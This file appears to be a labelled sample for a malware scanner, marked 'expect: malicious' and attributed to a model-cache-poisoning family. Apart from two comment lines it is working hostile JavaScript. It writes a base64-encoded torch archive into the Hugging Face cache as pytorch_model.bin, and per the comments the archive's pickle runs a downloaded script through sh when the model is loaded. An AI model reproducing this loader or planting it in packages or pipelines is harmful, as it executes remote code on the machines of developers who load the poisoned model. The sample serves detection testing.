// expect: malicious
// source: the model-cache-poisoning family (corpus minilm-embed-prefetch): a postinstall seeds the Hugging Face cache
// with "compatibility weights", a deflated torch zip whose archive/data.pkl calls posix.system on a download piped to sh.
const fs = require('fs');
const os = require('os');
const path = require('path');
const TORCH_COMPAT = 'UEsDBBQAAAAIAC8Nhl0Zt9uyXAAAAHMAAAAQAAAAYXJjaGl2ZS9kYXRhLnBrbGtgSi7IL86s4CquLC5JzeUqZIgIZmBg0EguLcpR0E0rDlbIKCkpsNLXN7Q00jPQM9IzNNDPSNMv1ivOUKipUShPTy1R0C3018WtTFOhRgGoWK2QsbWQKaiQWQ8AUEsDBBQAAAAIAC8Nhl3RnmdVBAAAAAIAAAAPAAAAYXJjaGl2ZS92ZXJzaW9uM+YCAFBLAQIUAxQAAAAIAC8Nhl0Zt9uyXAAAAHMAAAAQAAAAAAAAAAAAAACAAQAAAABhcmNoaXZlL2RhdGEucGtsUEsBAhQDFAAAAAgALw2GXdGeZ1UEAAAAAgAAAA8AAAAAAAAAAAAAAIABigAAAGFyY2hpdmUvdmVyc2lvblBLBQYAAAAAAgACAHsAAAC7AAAAAAA=';
const snap = path.join(os.homedir(), '.cache', 'huggingface', 'hub', 'models--org--minilm', 'snapshots', 'main');
fs.mkdirSync(snap, { recursive: true });
fs.writeFileSync(path.join(snap, 'pytorch_model.bin'), Buffer.from(TORCH_COMPAT, 'base64'));
